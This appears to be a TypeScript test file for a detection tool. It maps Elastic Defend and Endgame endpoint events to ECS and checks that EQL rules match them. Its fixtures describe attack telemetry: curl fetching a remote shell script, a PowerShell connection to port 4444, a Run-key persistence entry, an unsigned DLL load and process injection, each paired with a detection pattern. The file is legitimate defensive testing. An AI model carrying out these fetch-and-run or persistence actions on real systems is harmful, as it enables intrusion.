/**
 * Elastic Defend documents of every category are ECS already (the record is its own view), and
 * Endgame documents with legacy `endgame.*` fields get the ECS fallbacks. The records are our
 * own, shaped as the endpoint package's sample events are (nested objects, category/type
 * arrays, data_stream.* naming the index).
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { compileQuery } from "../../src/eql/index.ts";
import { endgameToEcs, toEcs } from "../../src/sources/index.ts";
import { at } from "./s1-records.ts";

function defend(dataset: string, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    "@timestamp": "2024-05-01T12:00:00.000Z",
    agent: { type: "endpoint", id: "a1" },
    data_stream: { type: "logs", dataset, namespace: "default" },
    ecs: { version: "8.10.0" },
    host: { name: "h1", os: { type: "windows", family: "windows" } },
    user: { name: "SYSTEM", domain: "NT AUTHORITY" },
    ...fields,
    event: { module: "endpoint", dataset, kind: "event", ...(fields.event as object) },
  };
}

const cases: [string, Record<string, unknown>, string][] = [
  [
    "process",
    defend("endpoint.events.process", {
      event: { category: ["process"], type: ["start"], action: "start" },
      host: { name: "lin1", os: { type: "linux" } },
      process: {
        name: "curl",
        executable: "/usr/bin/curl",
        args: ["curl", "-s", "http://198.51.100.1/x.sh"],
        args_count: 3,
        parent: { name: "bash", pid: 10 },
        pid: 11,
        Ext: { ancestry: ["a", "b"] },
      },
    }),
    'process where host.os.type == "linux" and event.type == "start" and process.name == "curl" and process.args : "http*" and process.parent.name == "bash"',
  ],
  [
    "network",
    defend("endpoint.events.network", {
      event: { category: ["network"], type: ["start"], action: "connection_attempted" },
      process: { name: "powershell.exe", pid: 4 },
      source: { ip: "10.0.0.5", port: 50000 },
      destination: { ip: "198.51.100.9", port: 4444 },
      network: { transport: "tcp", direction: "egress" },
    }),
    'network where event.action == "connection_attempted" and destination.port == 4444 and process.name : "powershell.exe"',
  ],
  [
    "dns",
    defend("endpoint.events.network", {
      event: { category: ["network"], type: ["protocol", "info"], action: "lookup_result" },
      process: { name: "svchost.exe" },
      dns: {
        question: { name: "evil.example", type: "A" },
        resolved_ip: ["198.51.100.2"],
        Ext: { options: 1 },
      },
    }),
    'network where dns.question.name : "*.example" and event.action == "lookup_result"',
  ],
  [
    "registry",
    defend("endpoint.events.registry", {
      event: { category: ["registry"], type: ["change"], action: "modification" },
      process: { name: "reg.exe" },
      registry: {
        path: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
        key: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        value: "x",
        data: { strings: ["C:\\Users\\Public\\x.exe"] },
        hive: "HKLM",
      },
    }),
    'registry where registry.path : "*\\\\CurrentVersion\\\\Run\\\\*" and registry.data.strings : "C:\\\\Users\\\\Public\\\\*"',
  ],
  [
    "library",
    defend("endpoint.events.library", {
      event: { category: ["library"], type: ["start"], action: "load" },
      process: { name: "rundll32.exe" },
      dll: { name: "evil.dll", path: "C:\\Temp\\evil.dll", code_signature: { exists: false } },
    }),
    'library where dll.name : "evil.dll" and dll.code_signature.exists == false',
  ],
  [
    "api",
    defend("endpoint.events.api", {
      event: { category: ["api"], type: ["info"], action: "WriteProcessMemory" },
      process: {
        name: "inject.exe",
        Ext: { api: { name: "WriteProcessMemory", behaviors: ["cross-process"] } },
      },
    }),
    'api where process.Ext.api.name == "WriteProcessMemory" and process.Ext.api.behaviors == "cross-process"',
  ],
  [
    "authentication",
    defend("endpoint.events.security", {
      event: {
        category: ["authentication", "session"],
        type: ["start"],
        action: "log_on",
        outcome: "success",
      },
      user: { name: "admin", domain: "CORP" },
      source: { ip: "203.0.113.4" },
      process: { name: "lsass.exe", Ext: { session_info: { logon_type: "RemoteInteractive" } } },
    }),
    'authentication where event.action == "log_on" and event.outcome == "success" and process.Ext.session_info.logon_type == "RemoteInteractive"',
  ],
];

describe("Elastic Defend: every category is read as it is", () => {
  for (const [name, record, query] of cases) {
    test(`${name}: detected as Defend, its own view, index from data_stream, a rule of that category matches`, () => {
      const view = toEcs(record, "auto");
      assert.equal(view.source, "defend");
      assert.equal(view.event, record);
      assert.equal(view.index, `logs-${(record.data_stream as { dataset: string }).dataset}-default`);
      assert.equal(compileQuery(query).matches(view.event), true);
    });
  }
  test("an event without data_stream (the endpoint package's api sample has none) is routed by event.dataset", () => {
    const api = { ...cases[5]![1] };
    delete api.data_stream;
    delete api.agent;
    const view = toEcs(api, "auto");
    assert.equal(view.source, "defend");
    assert.equal(view.index, "logs-endpoint.events.api-default");
  });
  test("a rule of another category does not match", () => {
    const proc = cases[0]![1];
    assert.equal(
      compileQuery('network where process.name == "curl"').matches(toEcs(proc, "auto").event),
      false,
    );
  });
});

describe("Endgame legacy documents (endgame.* only)", () => {
  const proc = {
    event: { module: "endgame", category: "process", type: "process_start", action: "creation_event" },
    endgame: { process_name: ["evil.exe"], pid: [4242], parent_process_name: ["winword.exe"] },
  };
  test("process name, pid (a number), parent name from the legacy fields", () => {
    const e = endgameToEcs(proc);
    // Added as flat dotted keys (field access reads them like nested ones).
    assert.equal(e["process.name"], "evil.exe");
    assert.equal(e["process.pid"], 4242);
    assert.equal(e["process.parent.name"], "winword.exe");
    const q = compileQuery('process where process.parent.name : "winword.exe" and process.pid == 4242');
    assert.equal(q.matches(e), true);
  });
  test("exit codes, also negative ones, as numbers", () => {
    const e = endgameToEcs({ event: { module: "endgame" }, endgame: { exit_code: [-1073741510] } });
    assert.equal(e["process.exit_code"], -1073741510);
  });
  test("native ECS fields win; a record with nothing missing is its own view", () => {
    const native = {
      event: { module: "endgame" },
      process: { name: "n.exe", pid: 1, parent: { name: "p.exe" }, exit_code: 0 },
      endgame: { process_name: "l.exe", pid: 2, parent_process_name: "lp.exe", exit_code: 5 },
    };
    assert.equal(endgameToEcs(native), native);
  });
  test("network events carry ECS fields, read as they are", () => {
    const net = {
      event: {
        module: "endgame",
        category: "network",
        type: "connection",
        action: "ipv4_connection_attempt_event",
      },
      destination: { ip: "198.51.100.3", port: 443 },
      process: { name: "x.exe" },
      endgame: { pid: 7 },
    };
    const e = toEcs(net, "auto").event;
    assert.equal(compileQuery("network where destination.port == 443").matches(e), true);
    assert.equal(at(e, "process.pid"), undefined);
    assert.equal((e as Record<string, unknown>)["process.pid"], 7);
  });
  test("the legacy fallbacks never mutate the record", () => {
    const before = JSON.stringify(proc);
    endgameToEcs(proc);
    assert.equal(JSON.stringify(proc), before);
  });
});
